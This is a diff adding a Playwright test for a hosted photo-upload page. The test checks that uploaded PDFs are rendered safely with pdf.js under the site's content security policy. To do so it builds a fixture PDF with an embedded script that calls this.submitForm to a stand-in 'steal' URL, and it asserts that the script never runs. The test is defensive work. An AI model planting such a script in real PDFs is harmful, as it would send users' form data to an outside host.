@@ -10,6 +10,7 @@ import { contentSecurityPolicy } from '../../server/securityHeaders.ts';
 import { createSite, listen, type RunningSite } from '../../server/site.ts';
 import { encodeHeic } from '../browser/heicFixture.ts';
 import { CHROMIUM_ARGS, findChromium } from '../chromium.ts';
+import { makePdf } from '../pdfWriter.ts';
 import { toFirstPhoto } from './harness.ts';
 
 /**
@@ -175,6 +176,54 @@ describe('the production hosted page', () => {
     expect(seen.problems).toEqual([]);
     expect(seen.foreign).toEqual([]);
     await context.close();
+  });
+});
+
+describe('PDFs on the production hosted page', () => {
+  it('reads them with pdf.js from its own origin under the CSP: a form and a script drawn, never run, and one over budget sent as its page', async () => {
+    const site = await listen(createSite(loadConfig({ MARKID_TOKEN_DEFAULTS: JSON.stringify({ utilityBill: true }) }), { mounts: [{ urlPrefix: '/', dir: join(out, 'hosted') }] }), 0);
+    const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
+    const seen = await watch(context, site.origin);
+    const page = await context.newPage();
+    const requests: string[] = [];
+    page.on('request', (request) => requests.push(request.url()));
+    try {
+      await page.goto(`${site.origin}/?locale=en`);
+      await page.getByRole('heading', { level: 1, name: 'Before you start' }).waitFor();
+      const photos = await Promise.all([10, 120, 200].map((hue) => pngPhoto(page, hue)));
+      await toFirstPhoto(page);
+      for (const [index, photo] of photos.entries()) {
+        await page.locator('input[type=file]').first().setInputFiles({ name: `photo-${index}.png`, mimeType: 'image/png', buffer: photo });
+        await page.getByText(/Photo ready/).waitFor({ timeout: 60_000 });
+        await page.getByRole('button', { name: 'Continue' }).click();
+      }
+      await page.getByRole('heading', { name: 'Proof of address' }).waitFor();
+      expect(requests.filter((url) => /pdf/i.test(new URL(url).pathname))).toEqual([]);
+      const pages = [{ text: ['EXAMPLE BANK', 'Ona Petraityte, Gedimino pr. 1-23, Vilnius'], field: 'ONA PETRAITYTE' }, { text: ['Page two'] }];
+      const script = "app.alert('ran'); this.submitForm('https://example.invalid/steal');";
+      const small = Buffer.from(makePdf(pages, { script }));
+      await page.locator('input[type=file]').first().setInputFiles({ name: 'export.pdf', mimeType: 'application/pdf', buffer: small });
+      await page.getByText(/PDF ready: export\.pdf, .* Pages: 2\./).waitFor({ timeout: 60_000 });
+      await page.getByRole('img', { name: 'First page of export.pdf' }).waitFor();
+      // The same statement padded to the size of a scan: over this step's budget.
+      const large = Buffer.from(makePdf(pages, { script, padding: 5_000_000 }));
+      await page.locator('input[type=file]').first().setInputFiles({ name: 'scan.pdf', mimeType: 'application/pdf', buffer: large });
+      await page.getByText(/^Page 1 of 2 from scan\.pdf will be sent as a picture/).waitFor({ timeout: 60_000 });
+      const pdfFiles = requests.filter((url) => /pdf/i.test(new URL(url).pathname)).map((url) => new URL(url).pathname);
+      expect(pdfFiles.some((path) => /pdf\.worker-[\w-]+\.js$/.test(path))).toBe(true);
+      expect(pdfFiles.some((path) => /pdfDocument-[\w-]+\.js$/.test(path))).toBe(true);
+      await page.getByRole('button', { name: 'Continue' }).click();
+      await page.getByRole('heading', { name: 'Check your photos' }).waitFor();
+      await page.getByRole('button', { name: 'Submit' }).click();
+      await page.getByRole('heading', { name: 'Thank you, your photos were sent' }).waitFor({ timeout: 60_000 });
+      const received = await (await fetch(`${site.origin}/api/sandbox/last-submission`)).json();
+      expect(received.images.UTILITY_BILL).toMatchObject({ type: 'jpeg', width: 1653, height: 2339 });
+      expect(seen.problems).toEqual([]);
+      expect(seen.foreign).toEqual([]);
+    } finally {
+      await context.close();
+      await site.close();
+    }
   });
 });
 
